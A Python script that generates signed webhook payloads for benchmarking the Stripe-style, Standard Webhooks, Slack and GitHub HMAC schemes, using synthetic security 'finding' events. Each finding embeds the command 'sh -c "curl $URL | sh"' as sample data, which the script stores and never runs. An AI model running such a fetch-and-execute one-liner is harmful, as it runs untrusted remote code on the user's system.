#!/usr/bin/env python3
"""Writes the deliveries for all benchmarks, signed now: one file for each size and each signing scheme.

    deliveries.py FOLDER

FOLDER/<scheme>-<size>.ndjson has lines {"headers": {...}, "body": "..."}, which the command line can read.
FOLDER/<scheme>.secret has the secret. The schemes are puck (Stripe's is the same, with another header name), standard
(Standard Webhooks and Svix), slack and github. All schemes have the same bodies.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import sys
import time
from collections.abc import Callable
from pathlib import Path
from random import Random

SIZES = (256, 1024, 4096, 65536)
EVENTS = 256  # of each size
KEY = b"0123456789abcdef0123456789abcdef"
SECRETS = {
    "puck": "whsec_" + KEY.decode(),
    "standard": "whsec_" + base64.b64encode(KEY).decode(),
    "slack": KEY.decode(),
    "github": KEY.decode(),
}


def finding(random: Random) -> dict[str, object]:
    return {
        "finding_id": f"fnd_{random.getrandbits(64):016x}",
        "host": {"name": f"build-{random.randrange(1000)}.example.net", "os": "Debian GNU/Linux 12", "cores": 8},
        "severity": random.choice(["low", "medium", "high", "critical", None]),
        "score": round(random.uniform(0, 10), 2),
        "command": 'sh -c "curl \\u0024URL | sh"\n',
        "tags": ["persistence", "cron", "caf\u00e9"],
        "seen": random.randrange(10**6),
        "is_new": random.random() < 0.5,
    }


def body(random: Random, size: int) -> str:
    """An envelope of exactly `size` bytes: as many findings as fit into it, and a summary that fills the rest."""
    envelope = {
        "event_id": "{:08x}-{:04x}-7{:03x}-b{:03x}-{:012x}".format(*map(random.getrandbits, (32, 16, 12, 12, 48))),
        "event_type": "investigation.completed",
        "emitted_at": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()),
        "api_version": "v1",
        "data": {"investigation_id": "inv_018f2e3a", "severity": "high", "findings": [], "summary": ""},
    }

    def text() -> str:
        return json.dumps(envelope, separators=(",", ":"), ensure_ascii=False)

    def length() -> int:
        return len(text().encode())

    data = envelope["data"]
    free = size - length()
    while True:
        one = finding(random)
        free -= len(json.dumps(one, separators=(",", ":"), ensure_ascii=False).encode()) + 1
        if free < 0:
            break
        data["findings"].append(one)
    data["summary"] = "x" * (size - length())
    assert length() == size
    return text()


def mac(signed: str) -> hmac.HMAC:
    return hmac.new(KEY, signed.encode(), hashlib.sha256)


def puck(text: str, event_id: str, now: int) -> dict[str, str]:
    digest = hmac.new(SECRETS["puck"].encode(), f"{now}.{text}".encode(), hashlib.sha256).hexdigest()
    return {"X-Puck-Signature": f"t={now},v1={digest}", "X-Puck-Event-Id": event_id}


def standard(text: str, event_id: str, now: int) -> dict[str, str]:
    digest = base64.b64encode(mac(f"{event_id}.{now}.{text}").digest()).decode()
    return {"webhook-id": event_id, "webhook-timestamp": str(now), "webhook-signature": f"v1,{digest}"}


def slack(text: str, event_id: str, now: int) -> dict[str, str]:
    return {"X-Slack-Request-Timestamp": str(now), "X-Slack-Signature": "v0=" + mac(f"v0:{now}:{text}").hexdigest()}


def github(text: str, event_id: str, now: int) -> dict[str, str]:
    return {"X-Hub-Signature-256": "sha256=" + mac(text).hexdigest()}


SCHEMES: dict[str, Callable[[str, str, int], dict[str, str]]] = {
    "puck": puck,
    "standard": standard,
    "slack": slack,
    "github": github,
}


def line(scheme: str, text: str, event_id: str, now: int) -> str:
    headers = {
        "Host": "hooks.example.com",
        "User-Agent": "Puck-Webhooks/1",
        "Content-Type": "application/json",
        "Content-Length": str(len(text.encode())),
        **SCHEMES[scheme](text, event_id, now),
    }
    return json.dumps({"headers": headers, "body": text}, ensure_ascii=False) + "\n"


def write(folder: Path) -> None:
    now = int(time.time())
    for scheme, secret in SECRETS.items():
        (folder / f"{scheme}.secret").write_text(secret)
    for size in SIZES:
        random = Random(size)
        bodies = [body(random, size) for _ in range(EVENTS)]
        for scheme in SCHEMES:
            with (folder / f"{scheme}-{size}.ndjson").open("w", encoding="utf-8") as file:
                file.writelines(line(scheme, text, json.loads(text)["event_id"], now) for text in bodies)


if __name__ == "__main__":
    write(Path(sys.argv[1]))
